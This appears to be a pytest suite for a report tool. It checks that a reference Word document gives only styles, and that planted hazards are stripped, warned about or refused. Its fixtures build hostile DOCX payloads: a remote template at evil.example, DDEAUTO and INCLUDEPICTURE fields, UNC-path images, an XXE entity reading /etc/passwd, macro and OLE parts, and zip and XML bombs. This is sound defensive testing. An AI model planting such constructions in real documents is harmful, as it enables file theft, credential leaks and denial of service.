"""A reference document gives the DOCX its styles and page set-up, never links,
macros, objects or fields that fetch: a house style from elsewhere is untrusted."""

from __future__ import annotations

import io
import re
import time
import zipfile
from pathlib import Path

import docx
import pytest
from lxml import etree

PLAIN = """\
title: Plain
marking: TLP:CLEAR
as_of: 2024-06-30
formats: [docx]
sections:
  - type: excerpts
    select: "country:KZ"
"""

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = R + "/"
NS = (f'xmlns:w="{W}" xmlns:r="{R}" xmlns:o="urn:schemas-microsoft-com:office:office" '
      'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
      'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"')
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"

# what the reference document plants, and the words the warning uses for it
PLANTED = {
    "an attached template": "http://evil.example/house.dotm",
    "pictures linked from outside the file": r"\\host\share\logo.png",
    "fields that fetch content": "INCLUDEPICTURE",
    "links to outside the file": "file:///etc/passwd",
    "embedded objects (OLE, ActiveX)": "Excel.Sheet.12",
    "frames": "http://evil.example/frame.html",
    "macros": "word/vbaProject.bin",
    "a DOCTYPE": "word/styles.xml",
    "entity references": "word/styles.xml",
}
# nothing of these may be left anywhere in the output
TRACES = ["evil.example", "host\\share", "host/share", "INCLUDEPICTURE", "INCLUDETEXT", "DDEAUTO",
          "attachedTemplate", "OLEObject", "<w:object", "frameset", "vbaProject", "macroEnabled", "oleObject",
          "DOCTYPE", "&house;", "root:", "r:link", "o:href", "/etc/passwd"]

HEADER_PLANTS = f"""
<w:p {NS}><w:r><w:fldChar w:fldCharType="begin"/></w:r>
<w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "http://evil.example/pixel.png" \\d </w:instrText></w:r>
<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>pixel</w:t></w:r>
<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p {NS}><w:fldSimple w:instr=' INCLUDETEXT "\\\\host\\share\\text.docx" '><w:r><w:t>included</w:t></w:r>
</w:fldSimple><w:r><w:t xml:space="preserve">Kept words </w:t></w:r>
<w:hyperlink r:id="rIdLink"><w:r><w:t>Intranet</w:t></w:r></w:hyperlink></w:p>
<w:p {NS}><w:r><w:pict><v:shape id="logo" style="width:10pt;height:10pt">
<v:imagedata r:id="rIdUnc" o:href="\\\\host\\share\\logo.png"/></v:shape></w:pict></w:r>
<w:r><w:drawing><wp:inline><wp:extent cx="1" cy="1"/><wp:docPr id="77" name="linked"/><a:graphic>
<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><a:blip r:link="rIdUnc"/>
</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>
<w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" r:id="rIdOle"/></w:object></w:r></w:p>
<w:p {NS}><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO excel "\\\\host\\share\\x.xls"</w:instrText></w:r>
<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
"""


def _relationship(rid: str, kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{REL}{kind}" Target="{target}"{mode}/>'


EMPTY_RELS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'


def _add(xml: bytes, closing: bytes, inner: str) -> bytes:
    """``inner`` before the last ``closing`` tag of ``xml``."""
    at = xml.rindex(closing)
    return xml[:at] + inner.encode() + xml[at:]


def hostile_reference(path: Path) -> Path:
    """A reference .docx (a .docm in truth) carrying every planted item."""
    start = docx.Document()
    start.styles["Heading 1"].font.name = "Courier New"
    start.sections[0].header.paragraphs[0].text = "House Name Ltd"
    buffer = io.BytesIO()
    start.save(buffer)
    with zipfile.ZipFile(buffer) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    header = next(n for n in parts if re.fullmatch(r"word/header\d+\.xml", n))
    header_rels = header.replace("word/", "word/_rels/") + ".rels"
    parts[header] = _add(parts[header], b"</w:hdr>", HEADER_PLANTS)
    parts[header_rels] = _add(parts.get(header_rels, EMPTY_RELS), b"</Relationships>", "".join([
        _relationship("rIdLink", "hyperlink", "file:///etc/passwd"),
        _relationship("rIdUnc", "image", "file://///host/share/logo.png"),
        _relationship("rIdOle", "oleObject", "\\\\host\\share\\book.xlsx")]))
    parts["word/settings.xml"] = _add(parts["word/settings.xml"], b"</w:settings>",
                                      f'<w:attachedTemplate {NS} r:id="rIdTpl"/>')
    parts["word/_rels/settings.xml.rels"] = _add(EMPTY_RELS, b"</Relationships>", _relationship(
        "rIdTpl", "attachedTemplate", "http://evil.example/house.dotm"))
    parts["word/webSettings.xml"] = _add(parts["word/webSettings.xml"], b"</w:webSettings>",
                                         f'<w:frameset {NS}><w:frame><w:sourceFileName r:id="rIdFrame"/>'
                                         '</w:frame></w:frameset>')
    parts["word/_rels/webSettings.xml.rels"] = _add(EMPTY_RELS, b"</Relationships>", _relationship(
        "rIdFrame", "frame", "http://evil.example/frame.html"))
    parts["word/_rels/document.xml.rels"] = _add(parts["word/_rels/document.xml.rels"], b"</Relationships>", (
        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        'Target="vbaProject.bin"/>' + _relationship("rIdEmbed", "oleObject", "embeddings/oleObject1.bin", False)))
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro"
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0 object"
    types = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", MACRO_MAIN.encode())
    parts["[Content_Types].xml"] = _add(types, b"</Types>", (
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Override PartName="/word/embeddings/oleObject1.bin" '
        'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'))
    styles = parts["word/styles.xml"]
    declaration_end = styles.index(b"?>") + 2
    doctype = (b'<!DOCTYPE w:styles [<!ENTITY house "Evil House"><!ENTITY secret SYSTEM "file:///etc/passwd">]>')
    styles = styles[:declaration_end] + doctype + styles[declaration_end:]
    styles = styles.replace(b"<w:style ", b'<w:style w:aliases="&house;" ', 1)
    parts["word/styles.xml"] = _add(styles, b"</w:styles>", "<w:style w:styleId='Spare'>&secret;&house;</w:style>")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return path


def assert_clean(path: Path) -> None:
    """No planted item in any part of ``path``; every XML part well-formed; the
    only relationships to outside the file are the pack's own web links."""
    strict = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
    with zipfile.ZipFile(path) as package:
        names = package.namelist()
        assert not [n for n in names if "vbaProject" in n or "embeddings/" in n or "vbaData" in n]
        for name in names:
            data = package.read(name)
            if not name.endswith((".xml", ".rels")):
                continue
            root = etree.fromstring(data, strict)  # well-formed, or this raises
            assert root.getroottree().docinfo.internalDTD is None, name
            text = data.decode("utf-8")
            assert [t for t in TRACES if t in text] == [], name
            if name.endswith(".rels"):
                for rel in root:
                    if rel.get("TargetMode") == "External":
                        assert rel.get("Type") == REL + "hyperlink", (name, rel.attrib)
                        assert re.match(r"https?://", rel.get("Target")), (name, rel.attrib)


def test_a_hostile_reference_document_gives_styles_only_and_a_warning(build, corpus, tmp_path):
    corpus.brief("plain", PLAIN)
    ref = hostile_reference(tmp_path / "house.docx")
    result = build("briefs/plain.yaml", "--format", "docx", "--jobs", "1", "--reference-doc", ref)
    assert result.exit_code == 0, result.output
    warning = [line for line in result.stderr.splitlines() if "reference document carries" in line]
    assert len(warning) == 1 and warning[0].startswith(f"Warning: {ref}: reference document")
    for words, example in PLANTED.items():
        assert f"{words} (" in warning[0] and example in warning[0], (words, warning[0])
    out = corpus.out / "plain.docx"
    assert_clean(out)
    built = docx.Document(str(out))
    header = " ".join(p.text for p in built.sections[0].header.paragraphs)
    assert "House Name Ltd" in header and "Kept words Intranet" in header and "TLP:CLEAR" in header
    assert "pixel" not in header and "included" not in header
    heading = built.styles["Heading 1"].element
    assert heading.find(f"{{{W}}}rPr/{{{W}}}rFonts").get(f"{{{W}}}ascii") == "Courier New"
    with zipfile.ZipFile(out) as package:
        types = package.read("[Content_Types].xml").decode()
    assert "wordprocessingml.document.main+xml" in types


def test_with_strict_a_hostile_reference_document_is_refused(build, corpus, tmp_path):
    corpus.brief("plain", PLAIN)
    ref = hostile_reference(tmp_path / "house.docx")
    result = build("briefs/plain.yaml", "--format", "docx", "--jobs", "1", "--strict", "--reference-doc", ref)
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr.startswith(f"Error: {ref}: reference document carries what a built pack must not")
    assert "macros (word/vbaProject.bin" in result.stderr
    assert result.stderr.rstrip().endswith("(warnings are errors with --strict)")
    assert not (corpus.out / "plain.docx").exists()


def test_a_clean_reference_document_gives_no_warning(build, corpus, tmp_path):
    corpus.brief("plain", PLAIN)
    ref = tmp_path / "house.docx"
    start = docx.Document()
    start.sections[0].header.paragraphs[0].text = "House Name Ltd"
    start.save(str(ref))
    result = build("briefs/plain.yaml", "--format", "docx", "--jobs", "1", "--strict", "--reference-doc", ref)
    assert result.exit_code == 0, result.output
    assert "warning" not in result.stderr
    assert_clean(corpus.out / "plain.docx")


def test_every_part_written_is_well_formed(build, corpus, tmp_path):
    corpus.brief("plain", PLAIN)
    result = build("briefs/plain.yaml", "--format", "docx", "--jobs", "1")
    assert result.exit_code == 0, result.output
    assert_clean(corpus.out / "plain.docx")


# ---------------------------------------------------------------- bounds
def _default_parts() -> dict[str, bytes]:
    buffer = io.BytesIO()
    docx.Document().save(buffer)
    with zipfile.ZipFile(buffer) as source:
        return {name: source.read(name) for name in source.namelist()}


def _styles_bomb(path: Path, size: int) -> None:
    """A .docx whose styles.xml is ``size`` bytes, mostly one comment (about 1 MB compressed per 200 MB)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        for name, data in _default_parts().items():
            if name != "word/styles.xml":
                package.writestr(name, data)
        with package.open("word/styles.xml", "w", force_zip64=True) as stream:
            stream.write(f"<w:styles xmlns:w='{W}'><!--".encode())
            chunk = b"bomb" * 2**18
            for _ in range(size // len(chunk)):
                stream.write(chunk)
            stream.write(b"--></w:styles>")


def _deep(path: Path, size: int) -> None:
    """A .docx whose styles.xml nests ``size`` elements."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in _default_parts().items():
            if name == "word/styles.xml":
                data = _add(data, b"</w:styles>", "<w:style>" * size + "</w:style>" * size)
            package.writestr(name, data)


def _many(path: Path, size: int) -> None:
    with zipfile.ZipFile(path, "w") as package:
        for i in range(size):
            package.writestr(f"word/media/image{i}.png", b"")


@pytest.mark.parametrize("make, size, message", [
    (_styles_bomb, 200 * 2**20, "the package expands to more than 64 MB (200 MB or more); a reference "
                                "document is read up to 64 MB in all and 16 MB per XML part"),
    (_styles_bomb, 20 * 2**20, "word/styles.xml expands to more than 16 MB (20 MB or more)"),
    (_styles_bomb, 12 * 10**6, "word/styles.xml: Comment too big found: a reference document's XML is read to "
                               "a depth of 256 and up to 10,000,000 characters in one text or comment"),
    (_deep, 5000, "word/styles.xml: Excessive depth in document: 256"),
    (_many, 1500, "has 1500 parts; a reference document may have at most 1000"),
])
def test_a_reference_document_beyond_the_bounds_is_refused_quickly(build, corpus, tmp_path, make, size, message):
    corpus.brief("plain", PLAIN)
    ref = tmp_path / "bomb.docx"
    make(ref, size)
    assert ref.stat().st_size < 2 * 2**20
    started = time.perf_counter()
    result = build("briefs/plain.yaml", "--format", "docx", "--jobs", "1", "--reference-doc", ref)
    assert time.perf_counter() - started < 20
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr.startswith(f"Error: {ref}: {message}"), result.stderr
    assert not corpus.out.exists() or not (corpus.out / "plain.docx").exists()
